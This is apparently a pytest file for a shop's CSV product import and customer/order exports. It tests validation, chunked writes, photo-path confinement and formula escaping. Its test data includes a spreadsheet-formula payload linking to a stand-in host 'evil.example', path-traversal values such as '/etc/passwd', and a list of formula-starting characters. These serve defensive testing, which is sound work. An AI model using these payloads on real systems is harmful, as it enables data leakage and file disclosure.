"""CSV files: the catalog's (every row checked before anything is written, the same bounds as staff's
commands, a large file written in short transactions, photos only from the media folder) and the exports
staff open in a spreadsheet (no cell runs as a formula)."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from markupsafe import Markup
from PIL import Image

from handlers.render import Renderer
from shop import cart as carts
from shop import catalog, checkout, crm
from tests.factories import make_customer, make_product
from tests.shop.test_checkout import CONFIG, ready_checkout

HEADER = "sku,name,category,price,stock,brand,description,photo,featured,active\n"
MEDIA = Path("media-not-used")  # these files name no photos


def friendly(error: catalog.RowError, language: str = "en") -> str:
    """A bad row as staff read it (in /import's answer and on the command line)."""
    return Markup(Renderer(CONFIG).render("crm.row_error", language, e=error)).striptags()


async def product_count(uow: Any) -> int:
    async with uow() as u:
        return await u.catalog.product_count()


async def test_every_bad_row_is_one_friendly_line_and_nothing_is_imported(uow: Any) -> None:
    bad = (
        HEADER + "OK-1,Fine,Tea,1.00,5,,,,,\n"
        "OK-2,Stock of 23 digits,Tea,1.00,12345678901234567890123,,,,,\n"
        "OK-3,Too much stock,Tea,1.00,3000000000,,,,,\n"
        f"OK-4,Long category,{'C' * 129},1.00,1,,,,,\n"
        f"{'S' * 65},Long SKU,Tea,1.00,1,,,,,\n"
        "TWO WORDS,SKU with a space,Tea,1.00,1,,,,,\n"
        f"OK-5,{'N' * 201},Tea,1.00,1,,,,,\n"
        'OK-6,A price,Tea,12.345,1,,"two\nlines",,,\n'  # a cell over two lines: still one row
        "OK-7,Featured?,Tea,1.00,1,,,,maybe,\n"
        "OK-8,,Tea,1.00,1,,,,,\n"
        "OK-1,Again,Tea,1.00,1,,,,,\n"
        ",,,,,,,,,\n"  # a blank row (spreadsheets leave them): skipped
        f"OK-9,Long brand,Tea,1.00,1,{'B' * 101},,,,\n"
        f"OK-10,A long price,Tea,{'9' * 50},1,,,,,\n"
    )
    async with uow() as u:
        result = await catalog.import_products_csv(u, bad, "USD", MEDIA)
    assert (result.created, result.updated) == (0, 0)
    assert [(e.row, e.column, e.error.code) for e in result.errors] == [
        (3, "stock", "invalid_stock"),
        (4, "stock", "invalid_stock"),
        (5, "category", "invalid_product_field"),
        (6, "sku", "invalid_product_field"),
        (7, "sku", "invalid_product_field"),
        (8, "name", "invalid_product_field"),
        (9, "price", "invalid_amount"),
        (10, "featured", "invalid_flag"),
        (11, "name", "invalid_product_field"),
        (12, "sku", "duplicate_sku"),
        (14, "brand", "invalid_product_field"),
        (15, "price", "invalid_amount"),
    ]
    lines = [friendly(e) for e in result.errors]
    assert lines[:4] == [
        "Row 3, stock: “12345678901234567890123” is not a stock quantity: use a whole number from 0 to "
        "1000000.",
        "Row 4, stock: “3000000000” is not a stock quantity: use a whole number from 0 to 1000000.",
        "Row 5, category: That is too long: at most 128 characters.",
        "Row 6, sku: A SKU is one word of at most 64 characters, like TEA-1.",
    ]
    assert lines[9] == "Row 12, sku: The SKU OK-1 is on row 2 already."
    cut = "9" * 40 + "…"  # the cell, cut: twenty lines must fit one message
    assert lines[11] == f"Row 15, price: “{cut}” is not an amount in USD. Write it like 25.50, with no sign."
    assert all("{" not in line and "\n" not in line for line in lines)  # sentences, not reprs
    assert "Строка 10, featured:" in friendly(result.errors[7], "ru")
    assert await product_count(uow) == 0  # not even the good first row


async def test_names_at_their_limits_import_and_import_again(uow: Any) -> None:
    """A category of 128 characters and a SKU of 64 are stored whole, so the next import finds them;
    a category is found by its name in any case, Cyrillic too (SQLite's lower() folds ASCII only)."""
    sku, category = "S" * 64, "C" * 128
    first = HEADER + f"{sku},Long,{category},1.00,1000000,,,,,\nTEA-1,Чай,Чай,1.00,1,,,,,\n"
    teas = "TEA-1,Чай,ЧАЙ,1.00,1,,,,,\nTEA-2,Чай 2,чай,1.00,1,,,,,\n"
    again = HEADER + f"{sku},Long,{category},1.00,5,,,,,\n" + teas
    async with uow() as u:
        assert (await catalog.import_products_csv(u, first, "USD", MEDIA)).errors == []
    async with uow() as u:
        result = await catalog.import_products_csv(u, again, "USD", MEDIA)
    assert (result.created, result.updated, result.errors) == (1, 2, [])
    async with uow() as u:
        assert (await u.catalog.by_sku(sku)).stock == 5
        tea, tea2 = await u.catalog.by_sku("TEA-1"), await u.catalog.by_sku("TEA-2")
        assert tea.category_id == tea2.category_id
        assert [(c.name, n) for c, n in (await u.catalog.categories_with_counts())[0]] == [
            (category, 1),
            ("Чай", 2),
        ]


async def test_a_large_file_is_written_in_short_transactions_with_progress(uow: Any) -> None:
    """Between two chunks the writer's lock is free: another unit of work writes while the import runs
    (on SQLite it would wait for the whole file, as customers' presses did)."""
    rows = 3 * catalog.IMPORT_CHUNK + 7
    text = HEADER + "".join(f"P-{i},Product {i},Bulk,1.00,{i % 50},,,,,\n" for i in range(rows))
    seen: list[tuple[int, int]] = []

    async def progress(done: int, total: int) -> None:
        seen.append((done, total))
        if len(seen) == 1:
            async with uow() as other:
                await catalog.set_stock(other, "P-0", "42")
        async with uow() as reader:
            assert await reader.catalog.product_count() == done  # each chunk committed before it is told

    async with uow() as u:
        result = await catalog.import_products_csv(u, text, "USD", MEDIA, progress)
    assert (result.created, result.updated, result.errors) == (rows, 0, [])
    chunk = catalog.IMPORT_CHUNK
    assert seen == [(chunk, rows), (2 * chunk, rows), (3 * chunk, rows), (rows, rows)]
    async with uow() as u:
        assert (await u.catalog.by_sku("P-0")).stock == 42


async def test_an_import_cut_short_is_completed_by_importing_the_file_again(uow: Any) -> None:
    """What a crash midway leaves: the chunks written before it. The same file again writes the rest
    (and rewrites the first chunks with the same values)."""
    rows = catalog.IMPORT_CHUNK + 10
    text = HEADER + "".join(f"P-{i},Product {i},Bulk,1.00,1,,,,,\n" for i in range(rows))

    async def crash(done: int, total: int) -> None:
        raise RuntimeError("the process died here")

    async with uow() as u:
        with pytest.raises(RuntimeError):
            await catalog.import_products_csv(u, text, "USD", MEDIA, crash)
    assert await product_count(uow) == catalog.IMPORT_CHUNK
    async with uow() as u:
        result = await catalog.import_products_csv(u, text, "USD", MEDIA)
    assert (result.created, result.updated) == (10, catalog.IMPORT_CHUNK)
    assert await product_count(uow) == rows


async def test_a_file_that_is_not_csv_or_lacks_columns_is_refused_whole(uow: Any) -> None:
    for text, params in [
        ("name,price\nTea,1\n", {"missing": ["sku"]}),
        ("", {"missing": ["sku", "name", "price"]}),
        (HEADER + "T-1,Tea,,1,1\n" + f"T-2,{'x' * 200_000},,1,1\n", {"unreadable": 3}),
        ("SKU, Name ,PRICE\nT-1,Tea,1\n", None),  # column names in any case, spaces around
    ]:
        async with uow() as u:
            if params is None:
                assert (await catalog.import_products_csv(u, text, "USD", MEDIA)).created == 1
                continue
            with pytest.raises(catalog.InvalidImport) as refused:
                await catalog.import_products_csv(u, text, "USD", MEDIA)
            assert refused.value.params == params


async def test_a_photo_is_a_link_or_an_image_inside_the_media_folder(uow: Any, tmp_path: Path) -> None:
    """A photo path is read from our disk and uploaded to customers: nothing outside MEDIA_DIR (absolute,
    ``..``, a symlink out) and nothing that is not an image; each such row is an error naming it."""
    media = tmp_path / "media"
    (media / "sub").mkdir(parents=True)
    Image.new("RGB", (8, 8)).save(media / "tea.png")
    Image.new("RGB", (8, 8)).save(media / "sub" / "cake.jpg")
    Image.new("RGB", (8, 8)).save(media / "leaf.webp")
    Image.new("RGB", (8, 8)).save(tmp_path / "outside.png")  # an image, but not in the media folder
    (media / "alias.png").symlink_to(media / "tea.png")  # a symlink that stays inside
    (media / "escape.png").symlink_to(tmp_path / "outside.png")
    (media / "passwords.png").write_text("root:x:0:0:root:/root:/bin/bash\n")
    photos = [
        ("tea.png", None),
        ("sub/cake.jpg", None),
        ("leaf.webp", None),
        ("alias.png", None),
        ("https://example.com/tea.jpg", None),
        ("/etc/passwd", "outside"),
        ("../../../../etc/hostname", "outside"),
        ("sub/../../outside.png", "outside"),
        ("escape.png", "outside"),
        ("passwords.png", "not_image"),
        ("missing.png", "missing"),
        ("sub", "missing"),  # a folder
    ]
    rows = "".join(f"P-{i},Product,,1.00,1,,,{photo},,\n" for i, (photo, _) in enumerate(photos))
    async with uow() as u:
        result = await catalog.import_products_csv(u, HEADER + rows, "USD", media)
    refused = [(e.row, e.column, e.error.code, e.error.params["reason"]) for e in result.errors]
    assert refused == [
        (i + 2, "photo", "invalid_photo", reason) for i, (_, reason) in enumerate(photos) if reason
    ]
    assert friendly(result.errors[0]) == (
        "Row 7, photo: A photo is an https:// link or a file in the media folder (MEDIA_DIR); “/etc/passwd” "
        "is outside it."
    )
    not_image = "Row 11, photo: “passwords.png” is not a JPEG, PNG, GIF or WebP image."
    assert friendly(result.errors[4]) == not_image
    assert await product_count(uow) == 0
    good = "".join(f"P-{i},Product,,1.00,1,,,{photo},,\n" for i, (photo, bad) in enumerate(photos) if not bad)
    async with uow() as u:
        assert (await catalog.import_products_csv(u, HEADER + good, "USD", media)).created == 5


def formulas(text: str) -> list[str]:
    """The cells of a CSV file that a spreadsheet would run (OWASP's list of first characters)."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_exports_write_no_cell_a_spreadsheet_would_run(uow: Any) -> None:
    """Customers name themselves, staff name products: /export customers, orders and products put a ' before
    a cell that starts like a formula; numbers stay numbers."""
    link = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    ann = await make_customer(uow, link, last_name="+1 (ignore)", username="@ann")
    tea = await make_product(uow, "@SUM(A1)", "-10% tea", stock=5)
    async with uow() as u:
        await carts.add_to_cart(u, ann.id, tea.id, 1, CONFIG)
    token = await ready_checkout(uow, ann)
    async with uow() as u:
        order = (await checkout.place_order(u, ann, token, CONFIG)).order
    async with uow() as u:
        customers = await crm.export_customers_csv(u, "USD")
        orders = await crm.export_orders_csv(u)
        products = await catalog.export_products_csv(u, "USD")
    for exported in (customers, orders, products):
        assert formulas(exported) == []
    rows = list(csv.DictReader(io.StringIO(customers)))
    assert [(r["first_name"], r["last_name"], r["username"], r["id"]) for r in rows] == [
        ("'" + link, "'+1 (ignore)", "'@ann", str(ann.id))
    ]
    (row,) = csv.DictReader(io.StringIO(orders))
    assert (row["number"], row["items"], row["total_minor"]) == (
        str(order.id),
        "'@SUM(A1) x1",
        str(order.total_minor),
    )


async def test_an_exported_catalog_imports_as_it_was(uow: Any) -> None:
    """The importer takes the guard off again: text that looked like a formula, or began with ' already,
    comes back unchanged."""
    names = ["=1+2", "'=quoted", "''@twice", "'90s mix", "+plus", "Plain tea"]
    text = HEADER + "".join(
        f"S-{i},{name},+Specials,1.50,{i},@brand,-10% today,,no,yes\n" for i, name in enumerate(names)
    )
    text = text.replace("S-0,", "-S0,")  # a SKU may begin with a minus
    async with uow() as u:
        assert (await catalog.import_products_csv(u, text, "USD", MEDIA)).errors == []

    async def products() -> list[tuple[Any, ...]]:
        async with uow() as u:
            return [
                (p.sku, p.name, p.category.name, p.brand, p.description, p.price_minor, p.stock)
                for p in await u.catalog.all_products()
            ]

    before = await products()
    assert before[0] == ("-S0", "=1+2", "+Specials", "@brand", "-10% today", 150, 0)
    async with uow() as u:
        exported = await catalog.export_products_csv(u, "USD")
    assert formulas(exported) == []
    async with uow() as u:
        again = await catalog.import_products_csv(u, exported, "USD", MEDIA)
    assert (again.created, again.updated, again.errors) == (0, len(names), [])
    assert await products() == before


async def test_the_answer_to_a_file_of_bad_rows_fits_one_message(uow: Any) -> None:
    """Twenty rows are listed, the rest counted; a cell echoed in an error is cut."""
    bad = HEADER + "".join(f"P-{i},Product,,1.00,1,,,/{'x' * 400}.png,,\n" for i in range(68_000, 68_050))
    async with uow() as u:
        result = await catalog.import_products_csv(u, bad, "USD", MEDIA)
    assert len(result.errors) == 50
    for language in ("en", "ru"):
        answer = Markup(Renderer(CONFIG).render("crm.imported", language, result=result)).striptags()
        assert len(answer) <= 4096
    assert answer.endswith("…и ещё 30 строк")
